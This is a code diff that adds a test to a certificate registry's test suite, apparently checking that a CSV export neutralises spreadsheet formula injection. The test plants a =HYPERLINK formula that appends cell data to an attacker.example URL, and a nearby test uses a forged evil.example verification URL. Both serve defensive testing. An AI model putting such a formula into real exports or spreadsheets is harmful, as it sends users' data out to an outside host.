@@ -198,3 +198,15 @@ def test_the_printed_qr_code_encodes_the_public_verification_url_not_the_request
     assert segno.make(url, error="m").svg_inline(scale=3, dark="#000") in html
     forged = segno.make(f"http://evil.example/certificates/{certificate.serial}/verify/", error="m")
     assert forged.svg_inline(scale=3, dark="#000") not in html
+
+
+def test_a_vendors_formula_in_a_chip_name_reaches_the_csv_as_text(certified):
+    from apps.certificates.models import Certificate
+
+    certificate = certified()
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
+    Certificate.objects.filter(pk=certificate.pk).update(subject_chip_name=formula)
+    body = Client().get("/registry/export.csv").content.decode("utf-8").lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
